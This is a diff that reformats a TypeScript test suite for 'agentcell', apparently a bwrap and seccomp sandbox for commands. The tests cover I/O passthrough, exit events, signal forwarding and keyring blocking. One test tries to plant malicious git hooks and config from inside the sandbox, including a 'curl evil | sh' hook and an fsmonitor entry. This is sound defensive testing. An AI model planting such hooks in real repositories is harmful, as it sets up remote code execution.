@@ -10,7 +10,11 @@ import { agentcell, CLI, inCell, listTree, makeSandbox, startCli, type Sandbox }
 describe('agentcell run', () => {
   let sb: Sandbox;
   before(() => {
-    sb = makeSandbox({ 'README.md': 'hi\n', '.git/hooks/pre-commit': '#!/bin/sh\nexit 0\n', '.git/config': '[core]\n' });
+    sb = makeSandbox({
+      'README.md': 'hi\n',
+      '.git/hooks/pre-commit': '#!/bin/sh\nexit 0\n',
+      '.git/config': '[core]\n',
+    });
   });
   after(() => sb.cleanup());
 
@@ -22,15 +26,24 @@ describe('agentcell run', () => {
   it('passes stdin and stdout through and prints the banner on stderr', () => {
     const r = agentcell(['run', '--', 'tr', 'a-z', 'A-Z'], { cwd: sb.workspace, env: sb.env, input: 'hello\n' });
     assert.equal(r.stdout, 'HELLO\n');
-    assert.match(r.stderr, /^agentcell: cell work-[0-9a-f]{6} · bwrap · mode development · workspace direct · network none · assurance reduced/m);
+    assert.match(
+      r.stderr,
+      /^agentcell: cell work-[0-9a-f]{6} · bwrap · mode development · workspace direct · network none · assurance reduced/m,
+    );
   });
 
   it('--json reports start and exit events with the assurance', () => {
     const r = agentcell(['run', '--json', '--', 'sh', '-c', 'exit 3'], { cwd: sb.workspace, env: sb.env });
     assert.equal(r.status, 3);
-    const events = r.stderr.trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
+    const events = r.stderr
+      .trim()
+      .split('\n')
+      .map((l) => JSON.parse(l) as Record<string, unknown>);
     assert.equal(events[0]?.['event'], 'start');
-    assert.deepEqual((events[0]?.['assurance'] as { reasons: string[] }).reasons, ['mode development', 'workspace direct (host files change live)']);
+    assert.deepEqual((events[0]?.['assurance'] as { reasons: string[] }).reasons, [
+      'mode development',
+      'workspace direct (host files change live)',
+    ]);
     assert.equal(events[1]?.['event'], 'exit');
     assert.equal(events[1]?.['exitCode'], 3);
   });
@@ -58,7 +71,10 @@ describe('agentcell run', () => {
   });
 
   it('keeps the repo control plane read-only: git hooks and config cannot be planted', () => {
-    const r = inCell(sb, 'echo "curl evil | sh" > .git/hooks/post-checkout; echo evil >> .git/hooks/pre-commit; echo "[core] fsmonitor = evil" >> .git/config; echo done');
+    const r = inCell(
+      sb,
+      'echo "curl evil | sh" > .git/hooks/post-checkout; echo evil >> .git/hooks/pre-commit; echo "[core] fsmonitor = evil" >> .git/config; echo done',
+    );
     assert.match(r.stdout, /done/);
     assert.equal(existsSync(join(sb.workspace, '.git/hooks/post-checkout')), false);
     assert.equal(readFileSync(join(sb.workspace, '.git/hooks/pre-commit'), 'utf8'), '#!/bin/sh\nexit 0\n');
@@ -71,12 +87,17 @@ describe('agentcell run', () => {
   });
 
   it('forwards SIGTERM to the command and returns its exit code', async () => {
-    const child = startCli(['run', '--', 'sh', '-c', 'trap "echo got-term; exit 42" TERM; echo ready; while :; do sleep 0.1; done'], {
-      cwd: sb.workspace,
-      env: sb.env,
-    });
+    const child = startCli(
+      ['run', '--', 'sh', '-c', 'trap "echo got-term; exit 42" TERM; echo ready; while :; do sleep 0.1; done'],
+      {
+        cwd: sb.workspace,
+        env: sb.env,
+      },
+    );
     let out = '';
-    await new Promise<void>((resolve) => child.stdout.on('data', (d: Buffer) => ((out += d.toString()), out.includes('ready') && resolve())));
+    await new Promise<void>((resolve) =>
+      child.stdout.on('data', (d: Buffer) => ((out += d.toString()), out.includes('ready') && resolve())),
+    );
     child.kill('SIGTERM');
     const code = await new Promise<number | null>((resolve) => child.on('exit', resolve));
     assert.equal(code, 42);
@@ -121,7 +142,10 @@ describe('agentcell run', () => {
   });
 
   it('seccomp blocks the kernel keyring inside the cell', () => {
-    const r = inCell(sb, `perl -e 'my $r = syscall(${process.arch === 'arm64' ? 219 : 250}, 0, 0); print "keyctl=$r errno=", $!+0, "\\n"'`);
+    const r = inCell(
+      sb,
+      `perl -e 'my $r = syscall(${process.arch === 'arm64' ? 219 : 250}, 0, 0); print "keyctl=$r errno=", $!+0, "\\n"'`,
+    );
     assert.match(r.stdout, /keyctl=-1 errno=1\b/);
   });
 
@@ -201,4 +225,3 @@ describe('agentcell shell', () => {
     }
   });
 });
-
